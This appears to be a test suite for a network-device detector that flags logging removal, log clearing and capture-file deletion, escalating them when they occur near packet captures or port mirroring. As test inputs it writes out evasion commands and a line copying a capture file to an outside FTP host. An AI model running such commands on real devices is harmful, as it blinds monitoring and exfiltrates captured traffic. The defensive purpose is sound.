// Evasion around a capture: logging and accounting turned off or narrowed, logs cleared, capture files deleted. Each
// rule fires on its command and stays quiet on its benign twin (rules.test.ts runs the same table with the other
// built-in rules); here, what only the device's context decides: a removed server that is not one of yours, a move
// between your collectors, a command-logging applet, and the correlation that makes an evasion next to a capture on
// the same device critical (and says so), across a restart of the state.
import { readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { pino } from 'pino';
import { formatters } from '../src/alerts/notify/formats/index.js';
import { buildDetection } from '../src/app.js';
import { buildConfig } from '../src/config.js';
import { Detector } from '../src/detect/detector.js';
import type { EvasionOptions } from '../src/detect/evasion.js';
import { kindCovered } from '../src/detect/expected/kinds.js';
import { loadRules } from '../src/detect/sigma/load.js';
import { Metrics } from '../src/metrics.js';
import { DETECTION_KINDS, type CommandEvent, type Detection } from '../src/types.js';
import { commandEvent, type EventOptions } from './helpers/command-event.js';
import { EVASION_CASES, EVASION_OPTIONS } from './helpers/evasion-cases.js';

const rules = loadRules([join(import.meta.dirname, '..', 'rules')]);
const byFile = new Map(rules.map((r) => [basename(r.file, '.yml'), r]));
const T0 = Date.parse('2026-03-03T10:00:00Z');

/** An event `s` seconds after T0. */
function at(s: number, command: string, o: EventOptions = {}): CommandEvent {
  return commandEvent(command, { time: new Date(T0 + s * 1000), ...o });
}

function detector(evasion: EvasionOptions = EVASION_OPTIONS): Detector {
  return new Detector({ rules, collectors: ['10.20.0.0/16'], evasion });
}

function run(d: Detector, events: CommandEvent[]): Detection[][] {
  return events.map((e) => d.detect(e));
}

const evasions = (ds: Detection[]) => ds.filter((d) => d.kind === 'evasion');

describe('evasion rules', () => {
  it('is one of the detection kinds', () => {
    expect(DETECTION_KINDS).toContain('evasion');
  });

  for (const [file, [fires, quiet]] of Object.entries(EVASION_CASES)) {
    it(`${file}: "${fires.command}" is a medium evasion with its own ATT&CK technique; "${quiet.command}" is nothing`, () => {
      const rule = byFile.get(file)!;
      const [hit] = run(detector(), [fires])[0]!;
      expect(hit).toMatchObject({ rule: rule.id, kind: 'evasion', severity: 'medium' });
      expect(hit!.technique).toMatch(/^T1(?:685|690|070\.00[34])$/);
      expect(hit!.why).toContain('edge-rtr1');
      expect(run(detector(), [quiet])[0]).toEqual([]);
    });
  }

  it('every command of the evasion fixture fires exactly one evasion rule', () => {
    const lines = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'logs', 'ios-evasion-commands.log'), 'utf8')
      .split('\n')
      .filter((l) => l.trim() !== '' && !l.startsWith('#'));
    expect(lines.length).toBeGreaterThan(20);
    for (const line of lines) {
      const parts = line.split(' > ');
      const command = parts.pop()!;
      const hits = evasions(detector().detect(commandEvent(command, { context: parts })));
      expect(hits.map((h) => h.title), line).toHaveLength(1);
    }
  });

  it('names the destination removed, on IOS, ASA and NX-OS', () => {
    const host = (command: string) => detector().detect(commandEvent(command))[0]?.facts.logHost;
    expect(host('no logging host 10.20.1.5 vrf Mgmt-intf')).toBe('10.20.1.5');
    expect(host('no logging host inside 10.20.1.5')).toBe('10.20.1.5');
    expect(host('no logging host ipv6 2001:db8::5')).toBe('2001:db8::5');
    expect(host('no logging server 10.20.1.5 use-vrf management')).toBe('10.20.1.5');
    expect(host('no logging 10.20.1.5')).toBe('10.20.1.5');
    expect(detector().detect(commandEvent('no tacacs-server host 10.20.2.9'))[0]?.facts.aaaServer).toBe('10.20.2.9');
    expect(detector().detect(commandEvent('delete bootflash:1.pcap no-prompt'))[0]?.facts.file).toBe('bootflash:1.pcap');
  });

  it('an ASA logging list edit is an evasion only when its id or range covers a command message (111008–111010)', () => {
    const fires = (command: string) => evasions(detector().detect(commandEvent(command, { device: { platform: 'asa' } }))).length === 1;
    expect(['111009', '111000-111099', '100000-111008', '111010-199999', '000000-999999'].map((m) => fires(`no logging list L message ${m}`))).toEqual([true, true, true, true, true]);
    expect(['111007', '111011', '111011-111020', '100000-111007', '106023-106023'].map((m) => fires(`no logging list L message ${m}`))).toEqual([false, false, false, false, false]);
    expect(fires('logging list L message 111008-111010')).toBe(false);
  });

  it('an EEM applet that turns logging off through a variable it set is an evasion', () => {
    const d = detector();
    const applet = ['event manager applet QUIET'];
    const time = new Date(T0);
    expect(d.layers.learn('192.0.2.10', 'action 1.0 set c "no logging host 10.20.1.5"', applet, time)).toBeUndefined();
    const built = d.layers.learn('192.0.2.10', 'action 2.0 cli command "$c"', applet, time);
    expect(built).toBe('action 2.0 cli command "no logging host 10.20.1.5"');
    const [hit] = evasions(d.detect({ ...commandEvent(built!, { context: applet }), typed: 'action 2.0 cli command "$c"' }));
    expect(hit).toMatchObject({ kind: 'evasion', severity: 'medium', facts: { eemCommand: 'no logging host 10.20.1.5', typed: 'action 2.0 cli command "$c"' } });
    // An applet that sets logging to a level that still carries the command messages is nothing.
    expect(evasions(d.detect(commandEvent('action 1.0 cli command "logging trap informational"', { context: applet })))).toEqual([]);
  });

  it('a discriminator is read clause by clause, and a hostile one is judged quickly', () => {
    const dropped = (command: string) => detector().detect(commandEvent(command))[0]?.facts.dropped;
    expect(dropped('logging discriminator QUIET severity drops 7 mnemonics drops CFGLOG_LOGGEDCMD')).toBe('CFGLOG_LOGGEDCMD');
    expect(dropped('logging discriminator QUIET mnemonics includes CFGLOG_LOGGEDCMD')).toBeUndefined();
    const t0 = performance.now();
    expect(dropped(`logging discriminator X ${'facility drops LINK '.repeat(200)}${'P'.repeat(3000)}`)).toBeUndefined();
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('the configuration logger turned off is told apart from logging turned off', () => {
    const title = (command: string, context: string[] = []) => detector().detect(commandEvent(command, { context }))[0]?.title;
    expect(title('no logging enable', ['archive', 'log config'])).toBe('Configuration command logging removed');
    expect(title('no logging enable')).toBe('Logging to syslog servers turned off');
    expect(title('no log config', ['archive'])).toBe('Configuration command logging removed');
    expect(title('no log config', ['interface GigabitEthernet1'])).toBeUndefined();
  });

  it('everyday logging changes are not evasion', () => {
    for (const c of ['logging buffered 64000', 'logging console informational', 'no logging console', 'logging trap notifications', 'logging source-interface Loopback0', 'show logging', 'clear counters', 'show archive log config all']) {
      expect(detector().detect(commandEvent(c)), c).toEqual([]);
    }
  });
});

describe('which removal is an evasion (detection.logCollectors)', () => {
  const mine = { ...EVASION_OPTIONS, logCollectors: ['10.20.0.0/16'] };

  it('removing one of your collectors alerts and says it is yours', () => {
    const [hit] = run(detector(mine), [at(0, 'no logging host 10.20.1.5')])[0]!;
    expect(hit!.severity).toBe('medium');
    expect(hit!.why).toContain('one of your log collectors');
  });

  it('removing a server that is not one of yours does not', () => {
    expect(run(detector(mine), [at(0, 'no logging host 192.0.2.99')])[0]).toEqual([]);
    expect(run(detector(mine), [at(0, 'no tacacs-server host 192.0.2.98')])[0]).toEqual([]);
  });

  it('moving the device from one of your collectors to another does not (benign twin)', () => {
    const out = run(detector(mine), [at(0, 'logging host 10.20.1.6'), at(5, 'no logging host 10.20.1.5')]);
    expect(out).toEqual([[], []]);
    const tacacs = run(detector(mine), [
      at(0, 'server name ISE2', { context: ['aaa group server tacacs+ ISE'] }),
      at(5, 'no tacacs-server host 10.20.2.9'),
    ]);
    expect(tacacs).toEqual([[], []]);
  });

  it('pointing the device at a server that is not yours is no cover for removing yours', () => {
    const out = run(detector(mine), [at(0, 'logging host 198.51.100.7'), at(5, 'no logging host 10.20.1.5')]);
    expect(out[1]!.map((d) => d.kind)).toEqual(['evasion']);
  });

  it('a named TACACS+ server cannot be placed in a network: its removal alerts', () => {
    const out = run(detector(mine), [at(0, 'no tacacs server ISE1')]);
    expect(out[0]!.map((d) => d.facts.aaaServer)).toEqual(['ISE1']);
  });

  it('only a command-logging applet (detection.eemApplets) is one to remove', () => {
    expect(run(detector(mine), [at(0, 'no event manager applet CATCHALL')])[0]!.map((d) => d.facts.eemApplet)).toEqual(['CATCHALL']);
    expect(run(detector({ logCollectors: ['10.20.0.0/16'] }), [at(0, 'no event manager applet catchall')])[0]).toEqual([]);
  });
});

describe('correlation with capture and mirror work on the same device', () => {
  it('logging removed 40 s before a capture start: the capture is critical and says so', () => {
    const out = run(detector(), [at(0, 'no logging host 10.20.1.5'), at(40, 'monitor capture CAP interface GigabitEthernet1 both'), at(40, 'monitor capture CAP start')]);
    expect(out[0]!.map((d) => d.severity)).toEqual(['medium']);
    const start = out[2]![0]!;
    expect(start.severity).toBe('critical');
    expect(start.why).toContain('logging to 10.20.1.5 removed 40 s before monitor capture CAP start on the same device');
    expect(start.tradecraft).toContain('logging impaired around a packet capture (Salt Typhoon)');
  });

  it('logs cleared after a mirror session: the evasion is critical and names the session command and its user', () => {
    const out = run(detector(), [
      at(0, 'monitor session 1 source interface GigabitEthernet1/0/1 both', { user: 'mallory' }),
      at(150, 'clear logging', { user: 'eve' }),
    ]);
    const clear = out[1]![0]!;
    expect(clear.kind).toBe('evasion');
    expect(clear.severity).toBe('critical');
    expect(clear.why).toContain('"clear logging" 3 min after monitor session 1 source interface GigabitEthernet1/0/1 both on the same device (by mallory)');
  });

  it('a capture file deleted after its export is critical', () => {
    const out = run(detector(), [at(0, 'copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap'), at(30, 'delete /force bootflash:tac.pcap')]);
    expect(out[1]![0]).toMatchObject({ kind: 'evasion', severity: 'critical', facts: { file: 'bootflash:tac.pcap' } });
  });

  it('outside the window, on another device, or on another device behind the same relay: medium alone', () => {
    const far = run(detector(), [at(0, 'monitor capture CAP start'), at(11 * 60, 'no logging on')]);
    expect(far[1]![0]!.severity).toBe('medium');
    const other = run(detector(), [at(0, 'monitor capture CAP start'), at(10, 'no logging on', { device: { address: '192.0.2.11', hostname: 'core-sw2' } })]);
    expect(other[1]![0]!.severity).toBe('medium');
    const relayed = run(detector(), [at(0, 'monitor capture CAP start'), at(10, 'no logging on', { device: { hostname: 'edge-rtr2' } })]);
    expect(relayed[1]![0]!.severity).toBe('medium');
  });

  it('the window is the incident window (windowMs)', () => {
    const d = new Detector({ rules, windowMs: 60_000 });
    const out = run(d, [at(0, 'no logging on'), at(90, 'monitor capture CAP start')]);
    expect(out[1]![0]!.severity).not.toBe('critical');
  });

  it('a removal that is no evasion (a collector move) does not raise the capture', () => {
    const d = detector({ logCollectors: ['10.20.0.0/16'] });
    const out = run(d, [at(0, 'logging host 10.20.1.6'), at(5, 'no logging host 10.20.1.5'), at(30, 'monitor capture CAP start')]);
    expect(out[2]![0]!.severity).not.toBe('critical');
  });

  it('survives a restart: the stored device state keeps the evasion it saw', () => {
    const before = detector();
    run(before, [at(0, 'no logging trap')]);
    const snapshot = JSON.parse(JSON.stringify(before.state.toJSON())) as unknown;
    const after = detector();
    after.state.restore(snapshot);
    const [start] = after.detect(at(60, 'monitor capture CAP start'));
    expect(start!.severity).toBe('critical');
    expect(start!.why).toContain('"no logging trap" 60 s before monitor capture CAP start');
  });
});

describe('expected work', () => {
  it('a window or approval covers evasion only when it names it', () => {
    expect(kindCovered(undefined, 'evasion')).toBe(false);
    expect(kindCovered(['capture', 'mirror'], 'evasion')).toBe(false);
    expect(kindCovered(['evasion'], 'evasion')).toBe(true);
    expect(kindCovered(undefined, 'capture')).toBe(true);
  });
});

describe('what a pager shows', () => {
  it('an incident of an evasion next to a capture names both techniques', () => {
    const detections = run(detector(), [at(0, 'no logging on'), at(30, 'monitor capture CAP start')]).flat();
    const incident = {
      id: '7d1c6f0e-0000-4000-8000-000000000002',
      severity: 'critical' as const,
      status: 'open' as const,
      device: detections[0]!.event.device,
      user: 'eve',
      firstSeen: detections[0]!.event.time,
      lastSeen: detections[1]!.event.time,
      detections,
    };
    const target = { name: 'pd', type: 'pagerduty' as const, url: 'http://127.0.0.1:9/pd', secret: 'k' };
    const rendered = formatters.pagerduty({ incident, first: true, fresh: detections, deliveryId: 'd1', now: new Date(T0 + 31_000), target });
    const body = JSON.parse(rendered.body) as { payload: { summary: string; group: string } };
    expect(body.payload.group).toBe('T1685, T1040');
    expect(body.payload.summary).toMatch(/^CRITICAL T1685, T1040 on edge-rtr1 by eve: /);
  });
});

describe('through the whole pipeline (ASA 111010)', () => {
  it('the real "logging on" line is nothing; the same line removing a log host or turning logging off is an evasion', () => {
    const lines = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'logs', 'asa-evasion-111010.log'), 'utf8').split('\n').slice(1, 4);
    const found: Detection[] = [];
    const { ingest } = buildDetection(buildConfig({ detection: { logCollectors: ['10.20.0.0/16'] } }), new Metrics(), pino({ level: 'silent' }), (d) => found.push(...d));
    const per = lines.map((l) => (ingest.line(l, '10.57.127.1', 'syslog', T0) ?? []).map((d) => [d.kind, d.rule, d.facts.logHost]));
    expect(per).toEqual([
      [],
      [['evasion', byFile.get('evasion_logging_host_removed')!.id, '10.20.1.5']],
      [['evasion', byFile.get('evasion_logging_disabled')!.id, undefined]],
    ]);
    expect(found.map((d) => d.event.user)).toEqual(['johntheuser', 'johntheuser']);
  });
});

describe("through the whole pipeline (the device's own %SYS-6-LOGGINGHOST_STARTSTOP)", () => {
  const lines = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'logs', 'ios-logginghost-stopped-sc4s.log'), 'utf8').split('\n').filter((l) => l !== '' && !l.startsWith('#'));
  const pipeline = () => {
    const found: Detection[] = [];
    const built = buildDetection(buildConfig({}), new Metrics(), pino({ level: 'silent' }), (d) => found.push(...d));
    return { ...built, found };
  };

  it('the real "stopped - CLI initiated" line is a medium evasion with no user, in every header shape', () => {
    for (const line of lines) {
      const { ingest } = pipeline();
      const ds = ingest.line(line, '192.0.2.77', 'syslog', T0) ?? [];
      expect(ds.map((d) => [d.kind, d.severity, d.rule, d.facts.logHost, d.event.user]), line).toEqual([
        ['evasion', 'medium', byFile.get('evasion_logging_host_stopped')!.id, '192.168.1.239', undefined],
      ]);
      expect(ds[0]!.why).toContain('Logging to 192.168.1.239 was removed on foo');
    }
  });

  it('after the command that removed the server, it is the same removal: no second detection; alone near a capture, critical', () => {
    const { ingest, detector } = pipeline();
    const device = { address: '192.0.2.77', hostname: 'foo' };
    const at = new Date(Date.parse('2026-04-29T13:58:45Z'));
    expect(evasions(detector.detect(commandEvent('no logging host 192.168.1.239', { device, time: at })))).toHaveLength(1);
    const line = lines[1]!;
    expect(ingest.line(line, '192.0.2.77', 'syslog', Date.parse('2026-04-29T13:58:46Z')) ?? []).toEqual([]);
    // With no command seen, a capture next to the device's notice makes the notice critical.
    const other = pipeline();
    other.detector.detect(commandEvent('monitor capture CAP start', { device, time: at }));
    const [hit] = other.ingest.line(line, '192.0.2.77', 'syslog', Date.parse('2026-04-29T13:58:46Z')) ?? [];
    expect(hit).toMatchObject({ kind: 'evasion', severity: 'critical' });
  });
});

describe('beside candidate configurations and refused commands', () => {
  const XR: EventOptions = { device: { platform: 'iosxr', hostname: 'xr1' } };
  const MIRROR = 'monitor-session 1 ethernet';

  it('a commit that makes a mirror take effect next to an evasion is critical, and the device keeps what it did', () => {
    const d = detector({ logCollectors: ['10.20.0.0/16'] });
    const [evasion, session, , commit] = run(d, [
      at(0, 'no logging 10.20.1.5', XR),
      at(10, MIRROR, XR),
      at(20, 'destination interface tunnel-ip1', { ...XR, context: [MIRROR] }),
      at(30, 'commit', XR),
    ]);
    expect(evasion!.map((x) => [x.kind, x.severity])).toEqual([['evasion', 'medium']]);
    expect(session!.map((x) => [x.kind, x.severity])).toEqual([['span', 'critical']]);
    expect(commit!.map((x) => [x.kind, x.severity, x.facts.committed])).toEqual([['span', 'critical', 'session 1 created']]);
    expect(commit![0]!.why).toContain('Critical: logging to 10.20.1.5 removed 30 s before commit on the same device');
    // The commit replaced the device's configuration state, not what it did: a later `clear logging` still correlates.
    const [clear] = d.detect(at(40, 'clear logging', XR));
    expect(clear).toMatchObject({ kind: 'evasion', severity: 'critical' });
    expect(clear!.why).toContain('10 s after commit');
  });

  it('a Junos syslog host deleted is reported at the delete, says it takes effect at commit, and a move stays quiet', () => {
    const JUNOS: EventOptions = { device: { platform: 'junos', hostname: 'mx1' } };
    const mine = { logCollectors: ['10.20.0.0/16'] };
    const d = detector(mine);
    const [deleted, , commit] = run(d, [
      at(0, 'delete system syslog host 10.20.1.5', JUNOS),
      at(10, 'set forwarding-options analyzer A0 output interface et-0/0/25.0', JUNOS),
      at(20, 'commit', JUNOS),
    ]);
    expect(deleted!.map((x) => [x.kind, x.severity, x.facts.logHost])).toEqual([['evasion', 'medium', '10.20.1.5']]);
    expect(deleted![0]!.why).toContain('one of your log collectors');
    expect(deleted![0]!.why).toContain('takes effect at the next commit');
    expect(evasions(commit!)).toEqual([]);
    // Pointing the device at another of your collectors first makes it a move.
    const moved = run(detector(mine), [at(0, 'set system syslog host 10.20.1.6 any notice', JUNOS), at(5, 'delete system syslog host 10.20.1.5', JUNOS)]);
    expect(moved).toEqual([[], []]);
    // A server that is not yours, as on IOS, is not reported.
    expect(run(detector(mine), [at(0, 'deactivate system syslog host 192.0.2.99', JUNOS)])[0]).toEqual([]);
  });

  it('a refused evasion (NX-OS FAILURE) is low, says so, and changes neither what the device logs to nor its correlation', () => {
    const d = detector({ logCollectors: ['10.20.0.0/16'] });
    const NX = { ...commandEvent('').device, platform: 'nxos' as const, hostname: 'nx1' };
    const refused: CommandEvent = { ...at(0, 'no logging server 10.20.1.5', { device: NX }), result: 'failure' };
    const [hit] = d.detect(refused);
    expect(hit).toMatchObject({ kind: 'evasion', severity: 'low', facts: { logHost: '10.20.1.5', result: 'failure' } });
    expect(hit!.why).toMatch(/^nx1 refused "no logging server 10\.20\.1\.5" \(FAILURE\), so nothing changed/);
    // Nothing was cut: a capture a minute later stays at its own level.
    const [capture] = d.detect(at(60, 'monitor capture CAP start', { device: NX }));
    expect(capture!.severity).not.toBe('critical');
    // A refused `logging server` added nothing either: removing the collector afterwards is still an evasion.
    d.detect({ ...at(70, 'logging server 10.20.9.9', { device: NX }), result: 'failure' });
    expect(evasions(d.detect(at(80, 'no logging server 10.20.1.5', { device: NX }))).map((x) => x.severity)).toEqual(['critical']);
  });
});
